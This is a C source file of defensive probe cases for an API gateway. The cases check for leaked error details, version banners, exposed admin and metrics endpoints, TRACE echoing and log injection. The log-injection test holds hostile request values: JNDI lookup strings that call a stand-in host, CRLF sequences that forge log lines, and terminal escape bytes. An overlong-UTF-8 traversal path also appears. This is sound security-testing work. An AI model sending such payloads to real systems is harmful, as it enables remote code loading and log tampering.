/* Information: what answers tell an attacker (error bodies, banners), what data listeners must
 * not serve (the admin API, metrics, TRACE), and what the access log makes of hostile bytes. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <unistd.h>

#include "probe/probe_internal.h"

#define OWASP_MISCONF "API8:2023"

static bool any_route(gh_probe *p, const gh_probe_route *r)
{
    (void)p;
    return r->target != NULL;
}

static const gh_probe_target *first_target(gh_probe *p, gh_probe_result *r)
{
    if (!p->ntargets)
        gh_probe_skip(r, "no listener to send to");
    return p->ntargets ? &p->targets[0] : NULL;
}

/* One request to t: the exchange noted into r; false when it could not be sent. */
static bool ask(gh_probe *p, gh_probe_result *r, const gh_probe_target *t, const char *bytes,
                size_t len, gh_probe_exchange *x)
{
    if (gh_probe_send(p, r, t, bytes, len, &(gh_probe_opts){.responses = 1}, x) != 0)
        return false;
    gh_probe_note(p, r, x);
    if (x->connect_failed) {
        gh_probe_error(r, "cannot connect to %s:%d", t->host, t->port);
        return false;
    }
    return true;
}

/* What an error body must not carry: traces, paths, versions of the software behind. */
static const char *leak_in(const char *body)
{
    static const char *const marks[] = {"Traceback", "Exception", "at java.", "stack trace",
                                        "/usr/",     "/var/",     "/home/",   "/etc/",
                                        "nginx/",    "Apache/",   "PHP/",     "Warning:",
                                        "SQLSTATE",  "ORA-",      "panic:",   "goroutine "};
    for (size_t i = 0; i < sizeof(marks) / sizeof(marks[0]); i++)
        if (strstr(body, marks[i]))
            return marks[i];
    return NULL;
}

static void error_bodies(gh_probe *p, gh_probe_result *r)
{
    const gh_probe_target *t = first_target(p, r);
    if (!t)
        return;
    const char *targets[] = {"/probe-no-such-path-4f1c", "/probe?%zz=1", "/probe/%c0%ae%c0%ae/x"};
    for (size_t i = 0; i < 3; i++) {
        size_t len;
        const char *bytes = gh_probe_request(p, "GET", targets[i], t->authority, NULL, NULL, &len);
        gh_probe_exchange x;
        if (!ask(p, r, t, bytes, len, &x))
            return;
        const char *leak = x.nresponses ? leak_in(x.r[0].body) : NULL;
        if (leak) {
            gh_probe_fail(r, "an error answer's body names \"%s\"", leak);
            return;
        }
    }
    gh_probe_pass(r, "error answers carry no traces, paths or versions");
}

static bool has_version(const char *v)
{
    for (; v && *v; v++)
        if (*v >= '0' && *v <= '9')
            return true;
    return false;
}

static void banners(gh_probe *p, gh_probe_result *r)
{
    const gh_probe_route *route = gh_probe_find_route(p, any_route);
    if (!route) {
        gh_probe_skip(r, "no route to ask");
        return;
    }
    gh_probe_aim(p, r, route->conf);
    const char *paths[] = {route->path, "/probe-no-such-path-4f1c"};
    for (size_t i = 0; i < 2; i++) {
        size_t len;
        const char *bytes = i == 0 ? gh_probe_valid_request(p, route, NULL, &len)
                                   : gh_probe_request(p, "GET", paths[i], route->host, NULL, NULL, &len);
        gh_probe_exchange x;
        if (!ask(p, r, route->target, bytes, len, &x))
            return;
        gh_probe_upstream_note(p, r, NULL);
        if (!x.nresponses)
            continue;
        const char *server = gh_probe_field(p, &x.r[0], "Server");
        const char *powered = gh_probe_field(p, &x.r[0], "X-Powered-By");
        const char *aspnet = gh_probe_field(p, &x.r[0], "X-AspNet-Version");
        if (powered || aspnet || (server && has_version(server))) {
            gh_probe_fail(r, "an answer names the software behind it (%s: %s)",
                          powered ? "X-Powered-By" : aspnet ? "X-AspNet-Version" : "Server",
                          powered ? powered : aspnet ? aspnet : server);
            return;
        }
    }
    gh_probe_pass(r, "no Server version, X-Powered-By or X-AspNet-Version in answers");
}

/* Asks each data listener for paths that admin APIs and status pages answer; fails when an
 * answer looks like one (markers in its body) and did not come from the upstream. */
static void admin_on_data(gh_probe *p, gh_probe_result *r, const char *const *paths, size_t npaths,
                          const char *const *marks, size_t nmarks, const char *what)
{
    if (!p->ntargets) {
        gh_probe_skip(r, "no listener to send to");
        return;
    }
    for (size_t t = 0; t < p->ntargets; t++)
        for (size_t i = 0; i < npaths; i++) {
            size_t len;
            const char *extra = p->admin_token
                                    ? gh_arena_printf(&p->arena, "Authorization: Bearer %s\r\n", p->admin_token)
                                    : NULL;
            const char *bytes = gh_probe_request(p, "GET", paths[i], p->targets[t].authority, extra, NULL, &len);
            gh_probe_exchange x;
            if (!ask(p, r, &p->targets[t], bytes, len, &x))
                return;
            int forwarded = gh_probe_upstream_note(p, r, NULL);
            if (!x.nresponses || x.r[0].status >= 300 || forwarded > 0)
                continue;
            for (size_t m = 0; m < nmarks; m++)
                if (strstr(x.r[0].body, marks[m])) {
                    gh_probe_fail(r, "%s answered %s on the data listener %s:%d", what, paths[i],
                                  p->targets[t].host, p->targets[t].port);
                    return;
                }
        }
    gh_probe_pass(r, "no data listener answers as %s", what);
}

static void admin_api(gh_probe *p, gh_probe_result *r)
{
    static const char *const paths[] = {"/status", "/config", "/ready", "/live", "/server-status",
                                        "/nginx_status", "/haproxy?stats", "/stats", "/admin"};
    static const char *const marks[] = {"\"config_hash\"", "\"workers\"", "Active connections:",
                                        "Statistics Report", "Server uptime", "listeners:"};
    admin_on_data(p, r, paths, 9, marks, 6, "an admin API or status page");
}

static void metrics(gh_probe *p, gh_probe_result *r)
{
    static const char *const paths[] = {"/metrics", "/prometheus", "/actuator/prometheus", "/stats/prometheus"};
    static const char *const marks[] = {"# TYPE ", "# HELP "};
    admin_on_data(p, r, paths, 4, marks, 2, "a metrics endpoint");
}

static void trace(gh_probe *p, gh_probe_result *r)
{
    const gh_probe_target *t = first_target(p, r);
    if (!t)
        return;
    size_t len;
    const char *bytes = gh_probe_request(p, "TRACE", "/", t->authority,
                                         "Cookie: probe-secret=7b1e\r\nAuthorization: Bearer probe-secret-7b1e\r\n",
                                         NULL, &len);
    gh_probe_exchange x;
    if (!ask(p, r, t, bytes, len, &x))
        return;
    int forwarded = gh_probe_upstream_note(p, r, NULL);
    int status = x.nresponses ? x.r[0].status : 0;
    if (x.nresponses && strstr(x.r[0].body, "probe-secret"))
        gh_probe_fail(r, "TRACE echoed the request's credentials (answered %d)", status);
    else if (forwarded > 0)
        gh_probe_fail(r, "TRACE reached the upstream");
    else
        gh_probe_pass(r, "TRACE was not served (%d), nothing echoed", status);
}

/* The access log's lines from offset on; NULL when it cannot be read. */
static char *log_since(const char *path, long offset, size_t *len)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return NULL;
    fseek(f, offset, SEEK_SET);
    size_t cap = 1 << 20;
    char *buf = malloc(cap + 1);
    *len = buf ? fread(buf, 1, cap, f) : 0;
    fclose(f);
    if (buf)
        buf[*len] = '\0';
    return buf;
}

/* Every line is one JSON object without raw control bytes: the count of those that name mark,
 * or -1 (*bad says why). */
static int judge_lines(const char *text, size_t len, const char *mark, const char **bad)
{
    int n = 0;
    for (const char *s = text; s < text + len;) {
        const char *nl = memchr(s, '\n', (size_t)(text + len - s));
        size_t ll = nl ? (size_t)(nl - s) : (size_t)(text + len - s);
        for (size_t i = 0; i < ll; i++)
            if ((unsigned char)s[i] < 0x20 || s[i] == 0x7f) {
                *bad = "a raw control byte in a log line";
                return -1;
            }
        json_error_t err;
        json_t *j = ll ? json_loadb(s, ll, 0, &err) : NULL;
        if (ll && !json_is_object(j)) {
            json_decref(j);
            *bad = "a log line that is not one JSON object";
            return -1;
        }
        json_decref(j);
        n += ll > 0 && memmem(s, ll, mark, strlen(mark)) != NULL;
        s += ll + 1;
    }
    return n;
}

static void log_injection(gh_probe *p, gh_probe_result *r)
{
    if (!p->access_log) {
        gh_probe_skip(r, "the gateway's access log is not the probe's to read");
        return;
    }
    const gh_probe_target *t = first_target(p, r);
    if (!t)
        return;
    struct stat st;
    long offset = stat(p->access_log, &st) == 0 ? (long)st.st_size : 0;
    /* Each request names the case's mark in its path, so lines of earlier cases written late
     * are told apart; a raw LF inside a header value (the second) is the attack itself. */
    const char *mark = gh_arena_printf(&p->arena, "probe-log-%d", rand());
    const char *hostile[] = {"User-Agent: ${jndi:ldap://probe.invalid/a}\r\n", "Referer: \"}\n",
                             "X-Probe: \x1b[31mred\x1b[0m ${jndi:dns://probe.invalid}\r\n"};
    const char *targets[] = {gh_arena_printf(&p->arena, "/%s%%0d%%0aforged-line", mark),
                             gh_arena_printf(&p->arena, "/%s?q=%%0d%%0a%%7b%%22forged%%22%%3a1%%7d", mark),
                             gh_arena_printf(&p->arena, "/%s-esc", mark)};
    int sent = 0;
    for (size_t i = 0; i < 3; i++) {
        size_t len;
        const char *bytes = gh_probe_request(p, "GET", targets[i], t->authority, hostile[i], NULL, &len);
        gh_probe_exchange x;
        if (!ask(p, r, t, bytes, len, &x))
            return;
        gh_probe_upstream_note(p, r, NULL);
        sent++;
    }
    size_t len = 0;
    char *text = NULL;
    int lines = -1;
    const char *bad = NULL;
    for (int tries = 0; tries < 10; tries++) { /* the log is written off the request's path */
        free(text);
        text = log_since(p->access_log, offset, &len);
        lines = text ? judge_lines(text, len, mark, &bad) : -1;
        if (lines < 0 || lines >= sent)
            break;
        usleep(50000);
    }
    if (!text)
        gh_probe_error(r, "cannot read the access log %s", p->access_log);
    else if (lines < 0)
        gh_probe_fail(r, "%s after hostile requests", bad);
    else if (lines > sent)
        gh_probe_fail(r, "%d requests made %d log lines naming them: a request forged a line", sent, lines);
    else
        gh_probe_pass(r, "%d hostile requests: every log line one JSON object, none forged (%d of them "
                         "name their paths: a head refused before its path is read logs none)",
                      sent, lines);
    free(text);
}

static void refusal_cacheable(gh_probe *p, gh_probe_result *r)
{
    const gh_probe_target *t = first_target(p, r);
    if (!t)
        return;
    const gh_probe_route *route = NULL;
    for (size_t i = 0; i < p->nroutes && !route; i++)
        if (p->routes[i].conf && (p->routes[i].conf->auth_token || p->routes[i].conf->auth_api_key) &&
            (p->selftest || p->routes[i].safe))
            route = &p->routes[i];
    if (!route) {
        gh_probe_skip(r, "no route authenticates with a token or an API key");
        return;
    }
    gh_probe_aim(p, r, route->conf);
    size_t len;
    const char *bytes = gh_probe_request(p, route->method, route->path, route->host, NULL,
                                         route->safe ? NULL : "{}", &len);
    gh_probe_exchange x;
    if (!ask(p, r, route->target, bytes, len, &x))
        return;
    gh_probe_upstream_note(p, r, NULL);
    const char *cc = x.nresponses ? gh_probe_field(p, &x.r[0], "Cache-Control") : NULL;
    if (!x.nresponses || x.r[0].status < 400)
        gh_probe_skip(r, "the anonymous request was not refused (%d): see the authorization cases",
                      x.nresponses ? x.r[0].status : 0);
    else if (!cc || (!strcasestr(cc, "no-store") && !strcasestr(cc, "private")))
        gh_probe_fail(r, "a %d refusal may be cached (Cache-Control: %s)", x.r[0].status, cc ? cc : "none");
    else
        gh_probe_pass(r, "the %d refusal says Cache-Control: %s", x.r[0].status, cc);
}

const gh_probe_case gh_probe_cases_information[] = {
    {"INFO-001", "information", "error answers: traces, paths, versions", OWASP_MISCONF, 209, GH_PSEV_LOW, 0,
     "generic problem documents", "Answer errors with generic documents; log the details instead.", error_bodies},
    {"INFO-002", "information", "Server versions and X-Powered-By in answers", OWASP_MISCONF, 200, GH_PSEV_LOW, 0,
     "no versions, no X-Powered-By", "Keep headers.hardening on (it removes the upstream's banners).", banners},
    {"INFO-003", "information", "the admin API and status pages on data listeners", OWASP_MISCONF, 200,
     GH_PSEV_HIGH, 0, "not answered on data listeners", "Bind admin.address to loopback or a management network.",
     admin_api},
    {"INFO-004", "information", "metrics on data listeners", OWASP_MISCONF, 200, GH_PSEV_MEDIUM, 0,
     "not answered on data listeners", "Serve metrics on the admin listener only.", metrics},
    {"INFO-005", "information", "TRACE echoing credentials", OWASP_MISCONF, 693, GH_PSEV_MEDIUM, 0,
     "405, nothing echoed or forwarded", "Refuse TRACE (Gatehouse cannot allow it).", trace},
    {"INFO-006", "information", "log injection: CR LF, escapes and ${jndi: in requests, read back from the access log", OWASP_MISCONF, 117,
     GH_PSEV_MEDIUM, GH_PN_UPSTREAM, "one JSON line per request, nothing forged",
     "Log as JSON with every byte escaped (Gatehouse's access log).", log_injection},
    {"INFO-007", "information", "refusals that caches may keep", OWASP_MISCONF, 524, GH_PSEV_LOW, GH_PN_CONFIG,
     "Cache-Control: no-store on 401", "Mark refusals no-store (Gatehouse: always).", refusal_cacheable},
    {0},
};
